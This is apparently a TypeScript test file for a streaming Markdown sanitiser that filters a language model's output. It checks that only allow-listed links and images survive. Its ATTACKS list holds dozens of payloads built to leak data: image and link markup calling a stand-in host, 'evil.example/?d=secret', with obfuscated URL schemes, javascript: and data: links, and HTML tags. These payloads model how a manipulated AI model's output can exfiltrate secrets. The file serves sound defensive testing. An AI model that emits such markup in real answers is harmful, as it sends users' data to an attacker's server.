import fc from "fast-check";
import { fromParse5 } from "hast-util-from-parse5";
import MarkdownIt from "markdown-it";
import { parseFragment } from "parse5";
import { describe, expect, it } from "vitest";
import { fuzzRuns } from "../../../test/long-form.ts";
import { renderMarkdown } from "../../engines/markdown/render-markdown.ts";
import { childElementsOf } from "../../engines/markdown/tree.ts";
import { createGate } from "./gate.ts";
import type { ClosedFence, GateKeeper } from "./gate-keeper.ts";

const TOLD = "See https://design.example/handbook and GOV.UK for more.";
const OURS = ["/components/button", "/docs/colour", "/foundations/tokens/color.accent"];

const fences: ClosedFence[] = [];
const keeper: GateKeeper = {
  async link(address) {
    if (OURS.includes(address)) return address;
    return address === "https://design.example/handbook" ? address : undefined;
  },
  picture: async (address) => (address === "/assets/a.png" ? address : undefined),
  wasTold: (words) => TOLD.includes(words),
  liveBlocks: ["Preview", "Token"],
  async fence(fence) {
    fences.push(fence);
    return fence.code;
  },
};

/** The output for these pieces, and its blocks. */
async function through(pieces: readonly string[]) {
  let markdown = "";
  const blocks: string[] = [];
  const gate = createGate(keeper, {
    tell: (more) => {
      markdown += more;
    },
    endBlock: async (block) => {
      blocks.push(block);
    },
  });
  for (const piece of pieces) await gate.push(piece);
  await gate.pause();
  return { markdown, blocks };
}
const shown = async (text: string) => (await through([text])).markdown;

describe("the gate", () => {
  it.each([
    ["Use the **button** _here_.", "Use the **button** _here_."],
    ["# Title\n\n1. one\n2. two\n\n> quoted", "# Title\n\n1. one\n2. two\n\n> quoted"],
    ["| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"],
    ["See [Button](/components/button).", "See [Button](/components/button)."],
    ['See [Button](/components/button "title").', "See [Button](/components/button)."],
    ["See [`Button`](/components/button).", "See [`Button`](/components/button)."],
    ["See [Buton](/components/buton).", "See Buton."],
    ["[Handbook](https://design.example/handbook)", "[Handbook](https://design.example/handbook)"],
    ["https://design.example/handbook.", "<https://design.example/handbook>."],
    ["![A](/assets/a.png)", "![A](/assets/a.png)"],
    ["![Alternative](https://evil.example/?d=1)", "Alternative"],
    ['<Preview id="button" />', '<Preview id="button" />'],
    ["Take `a | b` now", "Take `a` | `b` now"],
    ["GOV.UK and color.accent, R&D, 1 < 2, a > b", "GOV.UK and color.accent, R&amp;D, 1 &lt; 2, a > b"],
    ["&lt;b&gt;", "&lt;b\\>"],
    ["one<br>two", "one two"],
    ["```css\na {}\n```", "```css\na {}\n```"],
    ["text\n~~~\n``` in it\n~~~\nmore", "text\n\n````\n``` in it\n````\n\nmore"],
    ["```mermaid\ngraph\n```", "```\ngraph\n```"],
    ["1. one\n   ```css\n   a {}\n   ```\n2. two", "1. one\n\n```css\na {}\n```\n\n2. two"],
    ["> ```\n> a\n> ```\n> b", "```\na\n```\n\n> b"],
    ["```\nnever closed", "```\nnever closed\n```"],
  ])("writes %j as %j", async (text, markdown) => expect(await shown(text)).toBe(markdown));

  it("sends safe text immediately, and holds back the rest", async () => {
    const reported: string[] = [];
    const gate = createGate(keeper, { tell: (more) => reported.push(more), endBlock: async () => {} });
    const reportOf = async (piece: string) => {
      await gate.push(piece);
      return reported.splice(0).join("");
    };
    expect(await reportOf("Use")).toBe("Use");
    expect(await reportOf(" the [But")).toBe(" the ");
    expect(await reportOf("ton](/components/but")).toBe("");
    expect(await reportOf("ton) how")).toBe("[Button](/components/button) ho");
    expect(await reportOf(" https://evil")).toBe("w ");
    expect(await reportOf(".example/x and")).toBe("`https://evil.example/x` and");
    expect(await reportOf("\n```css\na {")).toBe("\n");
    expect(await reportOf("}\n``")).toBe("");
    expect(await reportOf("`\n")).toBe("\n```css\na {}\n```");
  });

  it("ends blocks at the end of a paragraph, a list and a fence", async () => {
    const { blocks, markdown } = await through(["One\ntwo\n\n- a\n\n- b\n\nThree\n```css\na {}\n```\nFour"]);
    expect(blocks.map((block) => block.trim())).toEqual([
      "One\ntwo",
      "- a\n\n- b",
      "Three",
      "```css\na {}\n```",
      "Four",
    ]);
    expect(blocks.join("")).toBe(markdown);
  });
});

const SECRET = "https://evil.example/?d=secret";
const ATTACKS = [
  "evil.rs/x and evil.sh, 0.RS",
  `![x](${SECRET})`,
  `![x](<${SECRET}>)`,
  `![x][y]\n\n[y]: ${SECRET}`,
  `![y]\n\n[y]:\n  ${SECRET}`,
  `[x](${SECRET} "t")`,
  `[x](\n${SECRET})`,
  `[x\ny](${SECRET})`,
  `[![x](${SECRET})](${SECRET})`,
  `[a [b](${SECRET})](${SECRET})`,
  `<img src="${SECRET}">`,
  `<a href=${SECRET}>x</a>`,
  `<IMG\nSRC=${SECRET}>`,
  `<${SECRET}>`,
  SECRET,
  "www.evil.example/?d=secret",
  "//evil.example/?d=secret",
  "evil.com/?d=secret",
  "secret.evil.com",
  "secret.evil.comhttps://design.example/handbook",
  "secret.evil.comwww.evil.com",
  "0=.ua",
  "GOV.UK/secret",
  "GOV.UK?secret",
  "GOV.UK#secret",
  "GOV.UK:8080/secret",
  "secret.GOV.UK",
  "secret@evil.example",
  "mailto:a@evil.example?body=secret",
  "ftp://evil.example/secret",
  "https\\://evil.example/?d=secret",
  "https&#58;//evil.example/?d=secret",
  "h\u200bttps://evil.example/?d=secret",
  "ht\u2060tps://evil.example/?d=secret",
  "https://evil。example/?d=secret",
  "https://ｅvil.example/?d=secret",
  "[x](javascript:alert(1))",
  "[x](java&#115;cript:alert&#40;1&#41;)",
  "[x](java\\\nscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](data:image/svg+xml,<svg/>)",
  `[x](&#104;ttps://evil.example/?d=secret)`,
  `[x](https:\\/\\/evil.example/?d=secret)`,
  "[x](https://design.example/handbook?d=secret)",
  "https://design.example/handbook?d=secret",
  "https://design.example/handbook`secret`",
  "https://design.example/handbook[secret]",
  "[x](/oauth/authorize?redirect_uri=https://evil.example)",
  "[x](/components/button?d=secret)",
  "[x](//evil.example/components/button)",
  "[x](\\\\evil.example)",
  `[x]: ${SECRET}\n\n[x]`,
  `[^1]\n\n[^1]: ${SECRET}`,
  `| \`a | ![x](${SECRET}) | b\` |\n|---|---|---|`,
  `| \`a | b\` \`![x](${SECRET})\` |\n|---|---|`,
  `\`a\`\`\`\` b\`c \`\` ![x](${SECRET}) \`\``,
  `\`\`\`\`a\` ![x](${SECRET})`,
  `\\\`![x](${SECRET})\``,
  `> \`\`\`\n![x](${SECRET})\n> \`\`\``,
  `- \`\`\`\n![x](${SECRET})\n  \`\`\``,
  `\`\`\`\n~~~\n\`\`\`\n![x](${SECRET})`,
  `~~~ \`\`\`\n~~~\n![x](${SECRET})`,
  `    \`\`\`\n![x](${SECRET})`,
  `<Preview id="a" />\n\`\`\`html\n<img src="${SECRET}">\n\`\`\``,
  `<Preview id="a" />\n<img src="${SECRET}">`,
  `<Preview id="a" onclick="x" src="${SECRET}" />`,
  `<!-- \n![x](${SECRET})\n-->`,
  `<![CDATA[\n![x](${SECRET})]]>`,
  `{{ image({ src: "${SECRET}" }) }}`,
  `{% call card({ src: "${SECRET}" }) %}x{% endcall %}`,
  `\\{\\{ image({ src: "${SECRET}" }) }}`,
  `\`x\r\`![x](${SECRET})\``,
  `\`x\u2028\`![x](${SECRET})\``,
  `$\\href{${SECRET}}{x}$`,
  `[x](${SECRET}\u0000)`,
  `![\`](${SECRET})\`](/assets/a.png)`,
  `**[x](${SECRET})**`,
  `# [x](${SECRET})`,
  "[https](x)://evil.example/?d=secret",
  "https![](x)://evil.example/?d=secret",
  "[ht](x)[tps://evil.example/?d=secret](y)",
  "![ww](x)w.evil.example/?d=secret",
  "[](x)[![x](y)](z)(https://evil.example/?d=secret)",
  "![[x](y)(https://evil.example/?d=secret)",
];

const door = (markdown: string) =>
  renderMarkdown(markdown, { slug: "answer", image: (path) => path, liveBlocks: ["Preview"] });
/** A careless client: HTML enabled, and links for everything that looks like one. */
const careless = new MarkdownIt({ html: true, linkify: true });
careless.validateLink = () => true;
careless.linkify.set({ fuzzyLink: true, fuzzyEmail: true });

const allowed = new Set([...OURS, "https://design.example/handbook", "/assets/a.png"]);
/** Forbidden addresses that readers of this Markdown load or link to. */
async function foreign(markdown: string): Promise<string[]> {
  const printed = [(await door(markdown)).html, careless.render(markdown)];
  return printed.flatMap((html) => {
    const tree = fromParse5(parseFragment(html));
    const elements = tree.type === "root" ? [...childElementsOf(tree)] : [];
    return elements.flatMap(({ tagName, properties }) => {
      if (tagName === "preview") return Object.keys(properties).filter((name) => name !== "id");
      const addresses = ["href", "src", "srcSet", "action", "poster", "data", "cite"].flatMap((name) =>
        name in properties ? [String(properties[name])] : [],
      );
      return addresses.filter((address) => !allowed.has(address) && !address.startsWith("#"));
    });
  });
}

describe("the output of a hostile model", () => {
  it.each(ATTACKS)("has no forbidden links: %j", async (attack) => {
    const { markdown } = await through([attack]);
    expect(await foreign(markdown), markdown).toEqual([]);
  });

  it.each(["a@b.co ", "a.b ", "1. ", "- \n", "- \n\n"])(
    "is read in no time, in one piece: %j over and over",
    async (said) => {
      const { markdown } = await through([said.repeat(40_000)]);
      expect(markdown.length).toBeGreaterThan(70_000);
    },
  );

  it("is the same for any pieces, and has no forbidden links in any context", { tags: "repeated" }, async () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        "`",
        "``",
        "```",
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        "\n",
        "\n\n",
        "|",
        "\\",
        "&",
        "> ",
        "- ",
        "1. ",
        "    ",
      ),
      fc.constantFrom("text", "h", "www", ".", "://", "[Button](/components/button)", "`code`", "```css\na {}\n```\n"),
      fc.string({ maxLength: 8 }),
    );
    const text = fc.array(piece, { minLength: 1, maxLength: 8 }).map((pieces) => pieces.join(""));
    await fc.assert(
      fc.asyncProperty(text, fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1 }), async (said, sizes) => {
        const whole = (await through([said])).markdown;
        const pieces: string[] = [];
        for (let at = 0, turn = 0; at < said.length; turn++) {
          const size = sizes[turn % sizes.length] ?? 1;
          pieces.push(said.slice(at, at + size));
          at += size;
        }
        expect((await through(pieces)).markdown).toBe(whole);
        expect(await foreign(whole), whole).toEqual([]);
      }),
      { numRuns: fuzzRuns(500) },
    );
  });
});
